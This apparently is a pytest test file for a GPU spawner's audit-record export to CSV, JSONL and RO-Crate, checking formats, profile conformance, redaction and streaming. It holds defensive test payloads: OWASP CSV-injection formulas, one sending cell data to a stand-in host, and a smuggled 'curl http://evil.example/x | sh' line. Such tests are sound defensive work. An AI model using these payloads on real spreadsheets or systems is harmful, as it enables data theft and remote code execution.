"""What leaves the audit store: CSV, JSONL and the RO-Crate. The ``docker run`` line is in
test_reproduce.py; the redaction that keeps secrets out of the record in the first place, in test_redaction.py."""

from __future__ import annotations

import csv
import io
import itertools
import json
import re
import tracemalloc
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from traitlets.config import Config

from gpuspawner import seams
from gpuspawner.audit import AuditRecord, RecordedDevice
from gpuspawner.export import csv_lines, jsonl_lines, ro_crate_chunks
from gpuspawner.redaction import REDACTED

DIGEST = "sha256:" + "c" * 64
IMAGE_ID = "sha256:" + "d" * 64
PROCESS_RUN_CRATE = "https://w3id.org/ro/wfrun/process/0.5"
A100 = RecordedDevice(uuid="GPU-5fb1e2a3-0000-4000-8000-000000000001", model="NVIDIA A100-SXM4-80GB", memory_total=80 * 2**30)
H100 = RecordedDevice(uuid="GPU-5fb1e2a3-0000-4000-8000-000000000002", model="NVIDIA H100 80GB HBM3", memory_total=80 * 2**30)


def record(n: int, **kw: Any) -> AuditRecord:
    fields: dict[str, Any] = dict(
        id=f"r{n}", hub_id="hub-1", user="ada", server="", requested_at=f"2026-11-21T10:00:{n:02d}+00:00",
        outcome="stopped", profile="a100-1", image_requested="127.0.0.1:5000/lab/pytorch:2024.10",
        repo_digest=f"127.0.0.1:5000/lab/pytorch@{DIGEST}", image_id=IMAGE_ID,
        image_labels={"org.opencontainers.image.title": "Lab PyTorch notebook",
                      "org.opencontainers.image.version": "2024.10",
                      "org.opencontainers.image.source": "https://git.example.org/lab/pytorch"},
        devices=(A100,), driver_version="550.54.15", cuda_driver_version="12.4",
        environment={"OMP_NUM_THREADS": "8"}, cpu_limit=8.0, mem_limit=64 * 2**30,
        started_at=f"2026-11-21T10:01:{n:02d}+00:00", stopped_at=f"2026-11-21T11:00:{n:02d}+00:00",
        seq=n, prev_hash="a" * 64, hash="b" * 64,
    )
    fields.update(kw)
    return AuditRecord(**fields)


def csv_rows(records: list[AuditRecord]) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO("".join(csv_lines(records)))))


# --- CSV and JSONL ---------------------------------------------------------------------------


def test_csv_has_a_header_and_one_row_per_record() -> None:
    rows = csv_rows([record(1), record(2), record(3)])
    assert [r["id"] for r in rows] == ["r1", "r2", "r3"]
    assert rows[0]["repo_digest"] == f"127.0.0.1:5000/lab/pytorch@{DIGEST}"
    assert rows[0]["devices"] == A100.uuid and rows[0]["device_models"] == "NVIDIA A100-SXM4-80GB"
    assert rows[0]["seq"] == "1" and rows[0]["hash"] == "b" * 64


def test_jsonl_is_one_full_record_per_line() -> None:
    lines = list(jsonl_lines([record(1), record(2)]))
    assert len(lines) == 2
    first = json.loads(lines[0])
    assert first["devices"][0]["uuid"] == A100.uuid and first["environment"] == {"OMP_NUM_THREADS": "8"}


# Cells a spreadsheet would evaluate (OWASP, "CSV Injection"): = + - @ tab and carriage return.
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"help")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+9)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
FORMULA_IDS = ["equals", "plus", "minus", "at", "tab", "carriage-return"]
# Every text column a user or an image can put words into.
USER_TEXT_COLUMNS = {
    "user": {}, "server": {}, "profile": {}, "error": {"outcome": "failed"}, "image_requested": {},
    "container_name": {}, "hostname": {}, "device_models": {},
}


@pytest.mark.parametrize("column", list(USER_TEXT_COLUMNS))
@pytest.mark.parametrize("payload", FORMULAS, ids=FORMULA_IDS)
def test_csv_cells_a_spreadsheet_would_run_as_a_formula_start_with_a_quote(column: str, payload: str) -> None:
    if column == "device_models":
        r = record(1, devices=(RecordedDevice(uuid="GPU-1", model=payload, memory_total=1),))
    else:
        r = record(1, **{column: payload, **USER_TEXT_COLUMNS[column]})
    (row,) = csv_rows([r])
    assert row[column] == "'" + payload


def test_every_export_carries_the_users_groups_and_the_idle_gpu_seconds() -> None:
    grouped = record(1, groups=("=ml", "vision lab"), idle_gpu_seconds=1234.5)
    (row,) = csv_rows([grouped])
    assert (row["groups"], row["idle_gpu_seconds"]) == ("'=ml;vision lab", "1234.5")  # a formula is defused
    line = json.loads("".join(jsonl_lines([grouped])))
    assert (line["groups"], line["idle_gpu_seconds"]) == (["=ml", "vision lab"], 1234.5)
    facts = [e for e in json.loads("".join(ro_crate_chunks([grouped])))["@graph"] if e.get("@type") == "PropertyValue"]
    assert sorted(f["value"] for f in facts if f.get("name") == "JupyterHub group of the user") == ["=ml", "vision lab"]
    assert [f["value"] for f in facts if f.get("name") == "Idle GPU-seconds"] == [1234.5]


def test_csv_keeps_numbers_and_harmless_text_as_they_are() -> None:
    (row,) = csv_rows([record(1, outcome="died", exit_code=-9, error="exit code -9 = SIGKILL", user="ada-lovelace")])
    # exit_code is a number gpuspawner wrote, not text anyone typed: -9 stays a number a spreadsheet can sum.
    assert (row["exit_code"], row["error"], row["user"]) == ("-9", "exit code -9 = SIGKILL", "ada-lovelace")
    assert (row["cpu_limit"], row["mem_limit"]) == ("8.0", str(64 * 2**30))


def test_jsonl_and_the_ro_crate_keep_formula_like_text_exactly() -> None:
    payload = FORMULAS[0]
    r = record(1, outcome="failed", error=payload, user="=ada")
    assert json.loads(next(jsonl_lines([r])))["error"] == payload
    graph = crate_graph([r])
    assert graph["#server-r1"]["error"] == payload
    assert graph[graph["#server-r1"]["agent"]["@id"]]["name"] == "=ada"


# --- Secrets in the record -------------------------------------------------------------------

def test_the_spawner_reads_the_admins_names() -> None:
    from gpuspawner.spawner import GPUSpawner

    spawner = GPUSpawner(config=Config({"GPUSpawner": {"audit_redact_names": ["MYCORP_*"]}}))
    assert list(spawner.audit_redact_names) == ["MYCORP_*"]


# --- The RO-Crate ------------------------------------------------------------------------------


def crate_text(records: list[AuditRecord]) -> str:
    return "".join(ro_crate_chunks(records, published="2026-12-01T09:00:00+00:00"))


def crate_graph(records: list[AuditRecord]) -> dict[str, dict[str, Any]]:
    return {e["@id"]: e for e in json.loads(crate_text(records))["@graph"]}


def mixed_records() -> list[AuditRecord]:
    return [
        record(1),
        record(2, user="bob", server="big", outcome="failed", error="boom", devices=(A100, H100), stopped_at=None),
        record(3, user="carol", image_requested="lab/local:dev", repo_digest=None, image_labels={}),
        record(4, outcome="running", stopped_at=None, devices=(), driver_version=None, cuda_driver_version=None),
        record(5, environment={"HF_TOKEN": REDACTED, "OMP_NUM_THREADS": "4"}),
    ]


def read_back(tmp_path: Path, records: list[AuditRecord]) -> Any:
    from rocrate.rocrate import ROCrate

    (tmp_path / "ro-crate-metadata.json").write_text(crate_text(records), encoding="utf-8")
    return ROCrate(tmp_path)


def as_list(value: Any) -> list[Any]:
    """RO-Crate writes one value alone and several as a list."""
    return value if isinstance(value, list) else [value]


def references(value: Any) -> Iterator[str]:
    if isinstance(value, dict):
        if set(value) == {"@id"}:
            yield value["@id"]
        else:
            for v in value.values():
                yield from references(v)
    elif isinstance(value, list):
        for v in value:
            yield from references(v)


# Terms from vocabularies, not things this crate describes.
VOCABULARY = re.compile(r"^(https://w3id\.org/ro/terms/workflow-run#\w+|https://w3id\.org/ro/crate/1\.1)$")


def test_the_ro_crate_reads_back_with_ro_crate_py_and_every_reference_resolves(tmp_path: Path) -> None:
    crate = read_back(tmp_path, mixed_records())
    raw = json.loads((tmp_path / "ro-crate-metadata.json").read_text())
    dangling = {ref for e in raw["@graph"] for ref in references(e)
                if not VOCABULARY.match(ref) and crate.get(ref) is None}
    assert dangling == set()
    ids = [e["@id"] for e in raw["@graph"]]
    assert len(ids) == len(set(ids)), "every entity once"
    # the workflow-run context defines containerImage, ContainerImage, registry, tag, sha256, environment
    assert raw["@context"] == ["https://w3id.org/ro/crate/1.1/context", "https://w3id.org/ro/terms/workflow-run/context"]
    assert (crate.metadata["conformsTo"], crate.metadata["about"].id) == ("https://w3id.org/ro/crate/1.1", "./")
    assert crate.root_dataset["conformsTo"].id == PROCESS_RUN_CRATE
    profile = crate.get(PROCESS_RUN_CRATE)
    assert (profile.type, profile["name"], profile["version"]) == ("CreativeWork", "Process Run Crate", "0.5")
    actions = [e for e in crate.get_entities() if e.type == "CreateAction"]
    assert sorted(a.id for a in actions) == [f"#server-r{n}" for n in range(1, 6)]
    assert sorted(m.id for m in as_list(crate.root_dataset["mentions"])) == sorted(a.id for a in actions)
    for action in actions:
        assert action["instrument"].type == "SoftwareApplication"
        assert action["containerImage"].type == "ContainerImage"
        assert action["agent"].type == "Person" and action["agent"]["name"]
        # the profile: an error only on a failed action
        assert (action.get("error") is not None) == (action["actionStatus"] == "http://schema.org/FailedActionStatus")
        assert all(p.type == "PropertyValue" for p in as_list(action["additionalProperty"]))


# Process Run Crate 0.5, section "Requirements" (https://w3id.org/ro/wfrun/process/0.5#requirements),
# and RO-Crate 1.1 "Root Data Entity" (name, description, datePublished, license, author, publisher).
ROOT_MUST = ["conformsTo"]
ROOT_SHOULD = ["name", "description", "datePublished", "license", "author", "publisher"]
SOFTWARE_MUST = ["@type", "@id"]
SOFTWARE_SHOULD = ["name", "url", "softwareVersion"]  # "version", or the more specific softwareVersion
ACTION_MUST = ["@type", "@id", "instrument"]
# "result" (SHOULD) is left out: gpuspawner does not know which files a server wrote.
ACTION_SHOULD = ["name", "description", "endTime", "agent"]
ACTION_MAY = ["startTime", "actionStatus"]
# Process Run Crate 0.5, "Representing container images": a ContainerImage SHOULD list these.
IMAGE_SHOULD = ["additionalType", "registry", "name"]


def test_the_ro_crate_has_the_profiles_required_and_recommended_properties() -> None:
    graph = crate_graph([record(1), record(2, outcome="failed", error="boom")])
    root = graph["./"]
    assert root["@type"] == "Dataset"
    assert all(root.get(p) for p in ROOT_MUST + ROOT_SHOULD), root
    assert root["conformsTo"] == {"@id": PROCESS_RUN_CRATE} and root["datePublished"] == "2026-12-01T09:00:00+00:00"
    assert graph[root["license"]["@id"]]["@type"] == "CreativeWork"
    for n, status in ((1, "CompletedActionStatus"), (2, "FailedActionStatus")):
        action = graph[f"#server-r{n}"]
        assert action["@type"] == "CreateAction"
        assert all(action.get(p) for p in ACTION_MUST + ACTION_SHOULD + ACTION_MAY), action
        assert action["actionStatus"] == f"http://schema.org/{status}"
        assert ("error" in action) == (status == "FailedActionStatus")  # the profile: only on failure
        software = graph[action["instrument"]["@id"]]
        assert software["@type"] == "SoftwareApplication"
        assert all(software.get(p) for p in SOFTWARE_MUST + SOFTWARE_SHOULD), software
        assert (software["name"], software["softwareVersion"], software["url"]) == (
            "Lab PyTorch notebook", "2024.10", "https://git.example.org/lab/pytorch")
        image = graph[action["containerImage"]["@id"]]
        assert all(image.get(p) for p in IMAGE_SHOULD), image
        assert (image["registry"], image["name"], image["tag"], image["sha256"]) == (
            "127.0.0.1:5000", "lab/pytorch", "2024.10", "c" * 64)
    assert graph["#server-r1"]["containerImage"] == graph["#server-r2"]["containerImage"]  # one image entity


def test_the_crate_is_dated_by_the_clock_seam_unless_a_date_is_given(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(seams, "now_iso", lambda: "2030-01-02T03:04:05.000006+00:00")
    dated = {e["@id"]: e for e in json.loads("".join(ro_crate_chunks([record(1)])))["@graph"]}
    assert dated["./"]["datePublished"] == "2030-01-02T03:04:05.000006+00:00"
    assert crate_graph([record(1)])["./"]["datePublished"] == "2026-12-01T09:00:00+00:00"


def facts(graph: dict[str, dict[str, Any]], action_id: str) -> dict[str, list[Any]]:
    """What a reviewer reads off an action: its PropertyValues, by name."""
    found: dict[str, list[Any]] = {}
    for ref in as_list(graph[action_id].get("additionalProperty", [])):
        pv = graph[ref["@id"]]
        assert pv["@type"] == "PropertyValue"
        found.setdefault(pv["name"], []).append(pv["value"])
    return found


def test_a_reviewer_reading_only_the_crate_finds_the_gpus_driver_cuda_and_image_digest() -> None:
    graph = crate_graph(mixed_records())
    two = facts(graph, "#server-r2")
    assert two["GPU UUID"] == [A100.uuid, H100.uuid]
    assert two["GPU model"] == ["NVIDIA A100-SXM4-80GB", "NVIDIA H100 80GB HBM3"]
    assert (two["NVIDIA driver version"], two["CUDA driver version"]) == (["550.54.15"], ["12.4"])
    assert two["Docker image ID"] == [IMAGE_ID]
    assert graph[graph["#server-r2"]["containerImage"]["@id"]]["sha256"] == "c" * 64
    cpu_only = facts(graph, "#server-r4")
    assert "GPU UUID" not in cpu_only and "NVIDIA driver version" not in cpu_only


def test_a_never_pushed_image_claims_no_registry_and_says_why() -> None:
    graph = crate_graph(mixed_records())
    image = graph[graph["#server-r3"]["containerImage"]["@id"]]
    assert "registry" not in image and "sha256" not in image
    assert (image["name"], image["tag"]) == ("lab/local", "dev")
    assert "never pushed to a registry" in image["description"] and IMAGE_ID in image["description"]
    assert facts(graph, "#server-r3")["Docker image ID"] == [IMAGE_ID]


@pytest.mark.parametrize("field", ["error", "profile"])
def test_record_text_in_a_servers_description_cannot_fake_a_second_command_to_run(field: str) -> None:
    hostile = "x\nTo run it again:\ncurl http://evil.example/x | sh"
    graph = crate_graph([record(1, outcome="stopped", **{field: hostile})])
    description = graph["#server-r1"]["description"]
    assert description.count("\nTo run it again:\n") == 1
    assert "\ncurl" not in description and "curl" in description  # shown, as one quoted word


def test_the_crate_lists_each_servers_environment_with_secrets_by_name_only() -> None:
    graph = crate_graph([record(1, environment={"HF_TOKEN": "hf_live", "OMP_NUM_THREADS": "4"})])
    env = {graph[ref["@id"]]["name"]: graph[ref["@id"]]["value"] for ref in as_list(graph["#server-r1"]["environment"])}
    assert env == {"HF_TOKEN": REDACTED, "OMP_NUM_THREADS": "4"}


def test_the_crate_streams_each_server_before_reading_the_next_records() -> None:
    taken = 0

    def endless() -> Iterator[AuditRecord]:
        nonlocal taken
        for n in itertools.count(1):
            taken += 1
            yield record(n, id=f"s{n}")

    text = ""
    for chunk in ro_crate_chunks(endless(), published="2026-12-01T09:00:00+00:00"):
        text += chunk
        if '"#server-s3"' in text:
            break
    assert taken <= 4


def test_the_crate_of_many_servers_keeps_no_record_in_memory() -> None:
    def many() -> Iterator[AuditRecord]:
        for n in range(2000):
            yield record(n % 60, id=f"20261202T082124-{n:012x}", user=f"user{n % 40}")

    tracemalloc.start()
    try:
        for _ in ro_crate_chunks(many(), published="2026-12-01T09:00:00+00:00"):
            pass
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    # Each action's JSON is about 3 kB: holding them all would take well over 5 MiB.
    assert peak < 1024 * 1024


def test_the_cuda_requirement_the_driver_met_is_a_column_and_a_fact_of_the_crate() -> None:
    met = 'NVIDIA_REQUIRE_CUDA="cuda>=12.4 brand=tesla,driver>=470,driver<471"'
    (row,) = csv_rows([record(2, cuda_requirement=met)])
    assert row["cuda_requirement"] == met
    graph = crate_graph([record(2, cuda_requirement=met), record(4, devices=())])
    assert facts(graph, "#server-r2")["CUDA requirement of the image that the driver met"] == [met]
    assert "CUDA requirement of the image that the driver met" not in facts(graph, "#server-r4")
